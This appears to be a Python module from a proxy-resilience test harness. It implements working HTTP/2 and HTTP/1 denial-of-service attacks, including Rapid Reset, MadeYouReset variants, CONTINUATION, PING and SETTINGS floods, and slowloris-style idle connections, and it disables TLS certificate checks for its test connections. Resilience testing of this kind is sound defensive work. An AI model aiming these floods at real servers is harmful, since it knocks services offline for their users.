"""Attacks with endless frames and idle connections."""
import ssl

from . import wire
from .attack import MB, attack
from .downloads import SMALL
from .proxies import MAX_DESCRIPTORS, Setup


def flood(on, part, before=b"", reads=True, connections=10, megabytes=20):
    """Sends `part` repeatedly, after the beginning of each connection."""
    size = on.size(megabytes, 2) * MB // connections

    def source(connection):
        yield wire.hello() + before
        block = part * max(1, 8_192 // len(part))
        for _ in range(0, size, len(block)):
            yield block

    on.http2(connections, source, reads=reads, receive_buffer=None if reads else SMALL)
    on.go(seconds=15, hold=3)


def open_stream(path="/silent2/", stream=1, flags=wire.END_HEADERS):
    return wire.headers(stream, wire.block(path, method="POST"), flags)


PING = wire.frame(wire.PING, 0, 0, b"attacker")


@attack("flood-ping", short=True)
def flood_ping(on):
    """PING frames on 10 connections (CVE-2019-9512)"""
    flood(on, PING)


@attack("flood-ping-unread", short=True)
def flood_ping_unread(on):
    """as flood-ping; the answers are not read"""
    flood(on, PING, reads=False)


@attack("flood-settings", short=True)
def flood_settings(on):
    """SETTINGS frames (CVE-2019-9515)"""
    flood(on, wire.settings())


@attack("flood-settings-unread")
def flood_settings_unread(on):
    """as flood-settings; the answers are not read"""
    flood(on, wire.settings(), reads=False)


@attack("flood-settings-window")
def flood_settings_window(on):
    """SETTINGS frames that change the initial window of 100 open streams each time"""
    opened = b"".join(open_stream(stream=stream) for stream in range(1, 200, 2))
    change = b"".join(wire.settings({wire.INITIAL_WINDOW_SIZE: size}) for size in (1, 65_535))
    flood(on, change, before=opened)


@attack("flood-priority")
def flood_priority(on):
    """PRIORITY frames that build a tree of streams which are not there (CVE-2019-9513)"""
    flood(on, b"".join(wire.frame(wire.PRIORITY, 0, stream, (stream - 2).to_bytes(4, "big") + b"\xff")
                       for stream in range(3, 20_003, 2)))


@attack("flood-window-update")
def flood_window_update(on):
    """WINDOW_UPDATE frames of 1 byte, for the connection and for a stream"""
    flood(on, wire.window_update(1, 1) + wire.window_update(0, 1), before=open_stream())


@attack("flood-unknown")
def flood_unknown(on):
    """frames of a type that nobody knows"""
    flood(on, wire.frame(0xFA, 0, 0) + wire.frame(0xFB, 0xFF, 1, b"x"), before=open_stream())


@attack("flood-goaway")
def flood_goaway(on):
    """GOAWAY frames"""
    flood(on, wire.frame(wire.GOAWAY, 0, 0, bytes(8) + b"debug data"))


@attack("flood-empty-data", short=True)
def flood_empty_data(on):
    """empty DATA frames (CVE-2019-9518)"""
    flood(on, wire.data(1), before=open_stream())


@attack("flood-trailers-open")
def flood_trailers_open(on):
    """HEADERS frames behind a request's head that do not end the stream"""
    flood(on, wire.headers(1, wire.literal(b"a", b""), wire.END_HEADERS), before=open_stream())


@attack("empty-headers")
def empty_headers(on):
    """HEADERS frames without a block, on ever new streams (CVE-2019-9516, CVE-2019-9518)"""
    per_stream(on, lambda stream: wire.headers(stream, b""))


@attack("empty-names")
def empty_names(on):
    """requests of fields without a name and a value (CVE-2019-9516)"""
    per_stream(on, lambda stream: wire.headers(stream, wire.block("/answer/", wire.literal(b"", b"") * 1_000)))


def per_stream(on, parts, reads=True, connections=10, megabytes=20, hold=3):
    """Sends `parts(stream)` on new streams repeatedly."""
    size = on.size(megabytes, 2) * MB // connections

    def source(connection):
        yield wire.hello()
        stream = 1
        sent = 0
        while sent < size:
            turn = bytearray()
            while len(turn) < 8_192:
                turn += parts(stream)
                stream += 2
            sent += len(turn)
            yield bytes(turn)

    on.http2(connections, source, reads=reads, receive_buffer=None if reads else SMALL)
    on.go(seconds=15, hold=hold)


@attack("rapid-reset", short=True)
def rapid_reset(on):
    """requests that are reset at once (CVE-2023-44487)"""
    per_stream(on, lambda stream: wire.headers(stream, wire.block("/silent2/")) + wire.reset(stream))


@attack("rapid-reset-answered")
def rapid_reset_answered(on):
    """as rapid-reset, of a backend that answers at once, and nothing is read"""
    per_stream(on, lambda stream: wire.headers(stream, wire.block("/answer/")) + wire.reset(stream), reads=False)


@attack("made-you-reset-window", short=True)
def made_you_reset_window(on):
    """requests that are made to be reset, by a WINDOW_UPDATE of 0 (CVE-2025-8671, CVE-2025-55163)"""
    per_stream(on, lambda stream: wire.headers(stream, wire.block("/silent2/")) + wire.window_update(stream, 0))


@attack("made-you-reset-overflow")
def made_you_reset_overflow(on):
    """as before, by a window of more than 2^31 - 1"""
    per_stream(on, lambda stream: wire.headers(stream, wire.block("/silent2/"))
               + wire.window_update(stream, (1 << 31) - 1))


@attack("made-you-reset-data")
def made_you_reset_data(on):
    """as before, by DATA behind the end of the request"""
    per_stream(on, lambda stream: wire.headers(stream, wire.block("/silent2/")) + wire.data(stream, b"x"))


@attack("made-you-reset-length")
def made_you_reset_length(on):
    """as before, by a body that is longer than its Content-Length"""
    per_stream(on, lambda stream: wire.headers(
        stream, wire.block("/silent2/", wire.literal(b"content-length", b"1"), "POST"), wire.END_HEADERS)
        + wire.data(stream, b"xyz"))


@attack("made-you-reset-priority")
def made_you_reset_priority(on):
    """as before, by a stream that depends on itself"""
    per_stream(on, lambda stream: wire.headers(stream, wire.block("/silent2/"))
               + wire.frame(wire.PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x10"))


@attack("made-you-reset-head")
def made_you_reset_head(on):
    """as before, by a head that is malformed"""
    per_stream(on, lambda stream: wire.headers(stream, wire.block("/silent2/", wire.literal(b"Upper", b"case"))))


@attack("too-many-streams")
def too_many_streams(on):
    """requests on ever new streams above the limit of 100, never reset"""
    per_stream(on, lambda stream: wire.headers(stream, wire.block("/silent2/")))


@attack("refused-unread", short=True)
def refused_unread(on):
    """requests for a path without a route, on ever new streams; the answers are not read"""
    per_stream(on, lambda stream: wire.headers(stream, wire.block("/nowhere")), reads=False, hold=8)


@attack("continuation", short=True)
def continuation(on):
    """CONTINUATION frames without end (CVE-2024-27316 and others)"""
    flood(on, wire.frame(wire.CONTINUATION, 0, 1, wire.literal(b"a", b"b" * 50) * 40),
          before=wire.headers(1, wire.block("/answer/"), wire.END_STREAM))


@attack("continuation-empty")
def continuation_empty(on):
    """CONTINUATION frames without a block, without end"""
    flood(on, wire.frame(wire.CONTINUATION, 0, 1), before=wire.headers(1, wire.block("/answer/"), wire.END_STREAM))


def sends(begin):
    return lambda connection: iter([begin])


def idle(on, hold=8):
    on.go(seconds=40, hold=hold)
    on.notes.append(f"{len(on.crowd.connections)} open at the end")


@attack("idle", short=True)
def idle_connections(on):
    """10,000 connections that send nothing, or as many as the limit of descriptors lets all four proxies have"""
    on.http1(on.size(min(10_000, MAX_DESCRIPTORS // 2 - 600), 2_000), sends(b""))
    idle(on, hold=20)


def careless():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2", "http/1.1"])
    return context


@attack("idle-tls", short=True)
def idle_tls(on):
    """2,000 connections that do the handshake of TLS and nothing more"""
    on.secure(on.size(2_000, 150), sends(b""), tls=careless())
    idle(on, hold=20)


@attack("half-heads", short=True)
def half_heads(on):
    """3,000 connections that send half a head"""
    on.http1(on.size(3_000, 500), sends(wire.request("/answer/")[:-4]))
    idle(on)


@attack("half-prefaces")
def half_prefaces(on):
    """3,000 connections that send half of HTTP/2's preface"""
    on.http2(on.size(3_000, 500), sends(wire.PREFACE[:12]))
    idle(on)


@attack("half-hellos")
def half_hellos(on):
    """3,000 connections that send half a ClientHello"""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = careless().wrap_bio(incoming, outgoing, server_hostname="attack.test")
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    on.secure(on.size(3_000, 500), sends(hello[:len(hello) // 2]))
    idle(on)


@attack("descriptors", short=True, others_wait=True, setup=Setup(descriptors=512))
def descriptors(on):
    """1,000 connections to a proxy that may have 512 descriptors: others wait, and are served afterwards"""
    before = on.proxy.processor_seconds()
    on.http1(1_000, sends(wire.request("/silent/")))
    on.go(seconds=8, hold=8)
    on.notes.append(f"{on.proxy.processor_seconds() - before:.1f} s of processor time meanwhile")
